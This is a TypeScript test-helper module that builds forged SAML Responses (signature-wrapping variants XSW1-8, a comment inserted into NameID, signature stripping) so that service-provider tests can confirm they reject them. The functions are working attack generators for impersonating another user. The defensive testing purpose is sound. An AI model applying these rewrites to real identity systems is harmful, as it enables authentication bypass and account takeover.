/**
 * Hostile rewrites of a signed SAML Response, for proving that a service provider refuses them.
 * Each is a pure function from the Response XML an honest identity provider signed to what an
 * attacker who holds it (their own, or a victim's) would send instead.
 *
 * The XML Signature Wrapping (XSW) variants follow the classic catalogue (Somorovsky et al., "On
 * Breaking SAML: Be Whoever You Want to Be", 2012, and the XSW1-8 numbering of SAML Raider): the
 * signature still verifies over the honest element, while an evil element sits where a careless
 * service provider reads its data. A service provider is safe only if it reads the very bytes the
 * signature covers, and nothing beside them.
 */
import type { Document, Element } from '@xmldom/xmldom';
import type { SamlPerson } from './saml-response.js';
import { childElement, descendants, escapeXml, parseXml, randomSamlId, SAML_NS, serializeXml } from './saml-xml.js';

interface ParsedResponse {
  document: Document;
  response: Element;
  /** The first Assertion child of the Response: the one the identity provider signed. */
  assertion: Element;
}

function parseResponse(xml: string): ParsedResponse {
  const document = parseXml(xml);
  const response = document.documentElement;
  if (!response || response.localName !== 'Response') throw new Error('Not a samlp:Response');
  const assertion = childElement(response, SAML_NS.assertion, 'Assertion');
  if (assertion === undefined) throw new Error('The Response has no plain Assertion (an encrypted one cannot be rewritten)');
  return { document, response, assertion };
}

/** The element's direct ds:Signature child, which must be there for the attack to mean anything. */
function ownSignature(element: Element): Element {
  const signature = childElement(element, SAML_NS.dsig, 'Signature');
  if (signature === undefined) throw new Error(`The ${element.localName} is not signed: sign it before attacking it`);
  return signature;
}

/** The document an element belongs to (every element parsed or cloned here has one). */
function documentOf(element: Element): Document {
  const document = element.ownerDocument;
  if (document === null) throw new Error('The element belongs to no document');
  return document;
}

function replaceText(element: Element, text: string): void {
  while (element.firstChild) element.removeChild(element.firstChild);
  element.appendChild(documentOf(element).createTextNode(text));
}

/**
 * A copy of the honest assertion, without its signature, naming someone else. With `newId` it gets
 * a fresh ID; without, it keeps the honest one, to collide with it.
 */
function evilCopy(assertion: Element, evil: SamlPerson, newId: boolean): Element {
  const copy = assertion.cloneNode(true) as Element;
  const signature = childElement(copy, SAML_NS.dsig, 'Signature');
  if (signature) copy.removeChild(signature);
  if (newId) copy.setAttribute('ID', randomSamlId());
  const subject = childElement(copy, SAML_NS.assertion, 'Subject');
  const nameId = subject && childElement(subject, SAML_NS.assertion, 'NameID');
  if (!nameId) throw new Error('The assertion has no Subject/NameID');
  replaceText(nameId, evil.nameId);
  if (evil.nameIdFormat !== undefined) nameId.setAttribute('Format', evil.nameIdFormat);
  if (evil.attributes !== undefined) replaceAttributes(copy, evil.attributes);
  return copy;
}

function replaceAttributes(assertion: Element, attributes: Record<string, string | string[]>): void {
  const old = childElement(assertion, SAML_NS.assertion, 'AttributeStatement');
  if (old) assertion.removeChild(old);
  const rendered = Object.entries(attributes)
    .map(([name, value]) => {
      const values = (Array.isArray(value) ? value : [value]).map((one) => `<saml:AttributeValue>${escapeXml(one)}</saml:AttributeValue>`);
      return `<saml:Attribute Name="${escapeXml(name)}">${values.join('')}</saml:Attribute>`;
    })
    .join('');
  const statement = parseXml(`<saml:AttributeStatement xmlns:saml="${SAML_NS.assertion}">${rendered}</saml:AttributeStatement>`).documentElement;
  if (statement) assertion.appendChild(documentOf(assertion).importNode(statement, true));
}

/** Inserts `child` right after the element's Issuer (and its signature, if it has one), as the schema orders them. */
function insertAfterHeader(parent: Element, child: Element): void {
  const issuer = childElement(parent, SAML_NS.assertion, 'Issuer');
  const signature = childElement(parent, SAML_NS.dsig, 'Signature');
  const after = signature ?? issuer;
  parent.insertBefore(child, after ? after.nextSibling : parent.firstChild);
}

/**
 * XSW3 (assertion signed): an unsigned evil assertion with its own ID goes before the honest
 * signed one. A service provider that checks "some assertion is signed" and reads the first one
 * signs the attacker in as `evilPerson`.
 */
export function withExtraUnsignedAssertion(xml: string, evilPerson: SamlPerson): string {
  const { document, response, assertion } = parseResponse(xml);
  response.insertBefore(evilCopy(assertion, evilPerson, true), assertion);
  return serializeXml(document);
}

/**
 * XSW7 ('extensions') and XSW8 ('object'), assertion signed: the honest assertion is hidden in a
 * place a schema-unaware reader skips, and an evil assertion with the SAME ID takes its place, so
 * that a lookup by ID may find either. 'extensions': the signed assertion moves into
 * samlp:Extensions. 'object': the signature moves into the evil assertion, and the honest assertion
 * (without its signature, which the enveloped transform removed from the digest anyway) goes into a
 * ds:Object inside that signature.
 */
export function withSignedAssertionMoved(xml: string, evilNameId: string, wrapper: 'extensions' | 'object' = 'extensions'): string {
  const { document, response, assertion } = parseResponse(xml);
  const signature = ownSignature(assertion);
  const evil = evilCopy(assertion, { nameId: evilNameId }, false);
  response.replaceChild(evil, assertion);
  if (wrapper === 'extensions') {
    const extensions = document.createElementNS(SAML_NS.protocol, 'samlp:Extensions');
    extensions.appendChild(assertion);
    insertAfterHeader(response, extensions);
  } else {
    assertion.removeChild(signature);
    const object = document.createElementNS(SAML_NS.dsig, 'ds:Object');
    object.appendChild(assertion);
    signature.appendChild(object);
    insertAfterHeader(evil, signature);
  }
  return serializeXml(document);
}

/**
 * XSW4 (assertion signed): an evil assertion with its own ID takes the honest one's place and holds
 * it, still signed, as its last child. The signature verifies; the outer assertion is unsigned.
 */
export function withAssertionWrappingSignedAssertion(xml: string, evilNameId: string): string {
  const { document, response, assertion } = parseResponse(xml);
  const evil = evilCopy(assertion, { nameId: evilNameId }, true);
  response.replaceChild(evil, assertion);
  evil.appendChild(assertion);
  return serializeXml(document);
}

/**
 * XSW5 (assertion signed): the signature moves into an evil assertion with its own ID, placed
 * first; the honest assertion, now without a signature of its own, follows it. The signature still
 * verifies over the honest assertion, but it sits in, and seems to vouch for, the evil one.
 */
export function withSignatureOnEvilAssertion(xml: string, evilNameId: string): string {
  const { document, response, assertion } = parseResponse(xml);
  const signature = ownSignature(assertion);
  const evil = evilCopy(assertion, { nameId: evilNameId }, true);
  assertion.removeChild(signature);
  insertAfterHeader(evil, signature);
  response.insertBefore(evil, assertion);
  return serializeXml(document);
}

/**
 * XSW1 ('object') and XSW2 ('sibling'), Response signed: a new evil Response with its own ID,
 * naming `evilNameId`, carries the honest signature; the honest Response (without that signature)
 * is kept where the signature still finds it by ID: inside a ds:Object of the signature (XSW1), or
 * as a child of the evil Response right before the signature, a detached signature (XSW2).
 */
export function withSignedResponseWrapped(xml: string, evilNameId: string, placement: 'object' | 'sibling' = 'object'): string {
  const { document, response, assertion } = parseResponse(xml);
  const signature = ownSignature(response);
  const evilResponse = response.cloneNode(true) as Element;
  evilResponse.setAttribute('ID', randomSamlId());
  const evilSignature = ownSignature(evilResponse);
  evilResponse.removeChild(evilSignature);
  const honestAssertionInEvil = childElement(evilResponse, SAML_NS.assertion, 'Assertion');
  if (honestAssertionInEvil) evilResponse.replaceChild(evilCopy(assertion, { nameId: evilNameId }, true), honestAssertionInEvil);
  response.removeChild(signature);
  document.replaceChild(evilResponse, response);
  if (placement === 'object') {
    const object = document.createElementNS(SAML_NS.dsig, 'ds:Object');
    object.appendChild(response);
    signature.appendChild(object);
    insertAfterHeader(evilResponse, signature);
  } else {
    insertAfterHeader(evilResponse, signature);
    evilResponse.insertBefore(response, signature);
  }
  return serializeXml(document);
}

/** Every XSW variant above in one list, so a service provider's test can refuse them all in a loop. */
export const XSW_ATTACKS: ReadonlyArray<{ name: string; needs: 'assertion' | 'response'; apply: (xml: string, evilNameId: string) => string }> = [
  { name: 'XSW1 evil response, signed one in ds:Object', needs: 'response', apply: (xml, evil) => withSignedResponseWrapped(xml, evil, 'object') },
  { name: 'XSW2 evil response, signed one beside a detached signature', needs: 'response', apply: (xml, evil) => withSignedResponseWrapped(xml, evil, 'sibling') },
  { name: 'XSW3 extra unsigned assertion first', needs: 'assertion', apply: (xml, evil) => withExtraUnsignedAssertion(xml, { nameId: evil }) },
  { name: 'XSW4 evil assertion wrapping the signed one', needs: 'assertion', apply: withAssertionWrappingSignedAssertion },
  { name: 'XSW5 signature moved onto an evil assertion', needs: 'assertion', apply: withSignatureOnEvilAssertion },
  { name: 'XSW7 signed assertion in Extensions, evil one with its ID', needs: 'assertion', apply: (xml, evil) => withSignedAssertionMoved(xml, evil, 'extensions') },
  { name: 'XSW8 signed assertion in ds:Object, evil one with its ID', needs: 'assertion', apply: (xml, evil) => withSignedAssertionMoved(xml, evil, 'object') },
];

/**
 * Inserts an empty comment into the signed assertion's NameID text, `at` characters in. The
 * signature still verifies, as exclusive canonicalisation without comments drops comments; a
 * service provider reading only the first text node would take `alice@example.com.evil.test` for
 * `alice@example.com` (CVE-2017-11428 and its siblings).
 */
export function withCommentInNameId(xml: string, at: number): string {
  const { document, assertion } = parseResponse(xml);
  const subject = childElement(assertion, SAML_NS.assertion, 'Subject');
  const nameId = subject && childElement(subject, SAML_NS.assertion, 'NameID');
  if (!nameId) throw new Error('The assertion has no Subject/NameID');
  const text = nameId.textContent ?? '';
  if (at <= 0 || at >= text.length) throw new Error(`Cannot split a NameID of ${text.length} characters at ${at}`);
  replaceText(nameId, text.slice(0, at));
  nameId.appendChild(document.createComment(''));
  nameId.appendChild(document.createTextNode(text.slice(at)));
  return serializeXml(document);
}

/** The same Response with every XML signature in it removed. */
export function unsigned(xml: string): string {
  const document = parseXml(xml);
  for (const signature of descendants(document, SAML_NS.dsig, 'Signature')) signature.parentNode?.removeChild(signature);
  return serializeXml(document);
}
